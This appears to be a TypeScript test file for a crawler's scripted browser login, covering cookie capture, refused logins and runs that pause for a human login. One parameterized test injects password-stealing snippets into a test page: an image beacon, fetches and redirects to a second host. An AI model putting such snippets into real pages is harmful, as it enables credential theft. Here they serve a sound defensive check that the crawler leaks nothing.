import { expect, it } from 'vitest';
import { describeBrowser, openRenderer } from '../browser/chromium.ts';
import { openLoginSite } from './login-site.ts';
import { enterWorld, openSite } from './setting.ts';
import type { SitePages } from './site.ts';
import { deliverNext, makeJob, outcomesOf, type World } from './world.ts';

const env = {
  PASS: 'geheim-&-wort',
  SPINNERET_SESSION_KEY: Buffer.alloc(32, 5).toString('base64'),
};

/** A page whose form scripts make, and whose login is a request of theirs, which gives a cookie that scripts can read, too. */
const application = (more = '', goesTo = ''): SitePages => ({
  '/go': { status: 302, headers: { location: goesTo } },
  '/': {
    body: `<main id=app></main><script>
      setTimeout(() => { app.innerHTML = '<input type=email><input type=password><button>In</button>'; app.querySelector('button').onclick = send }, 50);
      async function send() {
        const [user, pass] = [...app.querySelectorAll('input')].map(({ value }) => value);
        ${more}
        const answer = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ user, pass }) });
        if (!answer.ok) { app.textContent = 'Wrong'; return; }
        document.cookie = 'theme=dark-theme';
        app.innerHTML = '<b class=user>' + user + '</b>';
      }</script>`,
  },
  '/api/login': ({ body }) =>
    body.includes(env.PASS)
      ? { headers: { 'set-cookie': 'sid=session-of-ann-1; HttpOnly; Path=/' } }
      : { status: 401 },
  '/page': ({ headers }) => ({ body: `<h1>${headers.cookie ?? 'nobody'}</h1>` }),
});

const fillSteps = (origin: string, pass = '${env:PASS}') => [
  { open: `${origin}/` },
  { fill: { 'input[type=email]': 'ann', 'input[type=password]': pass } },
  { click: 'button' },
];

const checks = { select: '.user' };

async function driveWhileRunning(world: World): Promise<void> {
  const process = world.newProcess('a');
  while ((await world.ledger.readRun('r'))?.state === 'running') await deliverNext(world, 'r', process);
}

async function logIn(
  origin: string,
  login: Record<string, unknown>,
  { path = '/page', more = {} }: { path?: string; more?: Record<string, string> } = {},
) {
  const renderer = openRenderer();
  const world = enterWorld({ maxWaitMs: 5_000 }, { ...env, ...more }, { makeRenderer: async () => renderer });
  const job = makeJob({
    sources: [{ crawl: { start: `${origin}${path}` } }],
    sessions: { ann: { hosts: [new URL(origin).host], login: { via: 'browser', ...login } } },
    pages: { default: { fields: { title: { select: 'h1' } } } },
    politeness: { gapMs: 0, slowDown: false },
  });
  await world.start('r', job);
  await driveWhileRunning(world);
  const outcomes = await outcomesOf(world, 'r');
  const run = await world.ledger.readRun('r');
  return { outcomes, run, world };
}

const codesOf = ({ outcomes }: Awaited<ReturnType<typeof logIn>>) =>
  outcomes.flatMap(({ pages }) => pages.map(({ code }) => code));

const attemptsOf = async (world: World) => (await world.ledger.readCounts('r'))['sessions:logins'];

describeBrowser('a login in the browser', () => {
  it('types, clicks and keeps the cookies of answers and of scripts, for requests without a browser', async () => {
    const site = await openSite(application());
    const result = await logIn(site.origin, { steps: fillSteps(site.origin), check: checks });
    expect(site.log.find(({ path }) => path === '/page')?.headers.cookie).toBe(
      'sid=session-of-ann-1; theme=dark-theme',
    );
    expect(site.hits('/api/login')).toBe(1);
    expect(await attemptsOf(result.world)).toBe(1);
    // What opens the session is in no outcome.
    expect(JSON.stringify(result.outcomes)).not.toContain('session-of-ann-1');
  });

  it('fills in a form by its names, presses its button, and goes with its redirect', async () => {
    const site = await openLoginSite({ pages: 1 });
    const result = await logIn(
      site.origin,
      {
        steps: [
          { open: `${site.origin}/login` },
          { form: { select: '#login', fields: { user: 'ann', pass: '${env:PASS}', keep: '1' } } },
          { waitFor: 'a.user' },
        ],
        check: { select: '.user', url: ['**/welcome'], not: { select: '#login' } },
      },
      { path: '/p/3' },
    );
    expect(result.outcomes.flatMap(({ items }) => items.map(({ fields }) => fields['title']))).toEqual([
      'Page /p/3',
    ]);
    const sent = site.log.find(({ method }) => method === 'POST');
    expect(Object.fromEntries(new URLSearchParams(sent?.body))).toMatchObject({
      csrf: 'token-1',
      user: 'ann',
      keep: '1',
      go: 'in',
    });
    expect(site.logins()).toBe(1);
  });

  it('is refused by its check, once, and pauses the run', async () => {
    const site = await openSite(application());
    const result = await logIn(
      site.origin,
      { steps: fillSteps(site.origin), check: checks },
      { more: { PASS: 'wrong-word' } },
    );
    expect(codesOf(result)).toContain('LOGIN_REFUSED');
    expect(result.run).toMatchObject({ state: 'paused' });
    expect(site.hits('/api/login')).toBe(1);
    expect(site.hits('/page')).toBe(0);
  });

  it.each([
    [
      'a picture',
      `new Image().src = OTHER + '/?' + pass;`,
      'not so: select .none; after the first input nothing was asked of',
    ],
    ['a redirect of the site', `await fetch('/go?' + pass).catch(() => 0);`, 'nothing was asked of'],
    [
      'a form of a script',
      `await fetch(OTHER + '/', { method: 'POST', body: pass }).catch(() => 0);`,
      'LOGIN_ELSEWHERE',
    ],
    ['an address to go to', `location = OTHER + '/?' + pass;`, 'LOGIN_ELSEWHERE'],
  ])('takes nothing that was typed to another host by %s', async (_, theft, said) => {
    const other = await openSite({ '/': {} });
    const site = await openSite(
      application(theft.replaceAll('OTHER', `'${other.origin}'`), `${other.origin}/stolen`),
    );
    const result = await logIn(site.origin, { steps: fillSteps(site.origin), check: { select: '.none' } });
    expect(other.log).toEqual([]);
    expect(JSON.stringify([result.run, result.outcomes])).toContain(said);
  });

  it('gives the attempt back where nothing was sent', async () => {
    const site = await openSite({
      '/': { body: '<form action="https://elsewhere.example/" method=post><input name=user><button>' },
    });
    const result = await logIn(site.origin, {
      steps: [{ open: `${site.origin}/` }, { form: { fields: { user: 'ann' } } }],
      check: checks,
    });
    expect(codesOf(result)).toContain('LOGIN_ELSEWHERE');
    expect(await attemptsOf(result.world)).toBe(0);
  });
});

it('pauses a run whose session a person has to open', async () => {
  const site = await openSite({ '/page': {} });
  const world = enterWorld({}, env);
  const login = { via: 'person', steps: [{ open: `${site.origin}/login` }], check: checks };
  const job = makeJob({
    sources: [{ crawl: { start: `${site.origin}/page` } }],
    sessions: { ann: { hosts: [new URL(site.origin).host], login } },
  });
  await world.start('r', job);
  await driveWhileRunning(world);
  expect(await world.ledger.readRun('r')).toMatchObject({
    state: 'paused',
    reason: { code: 'LOGIN_NEEDED' },
  });
  expect(site.hits('/page')).toBe(0);
});
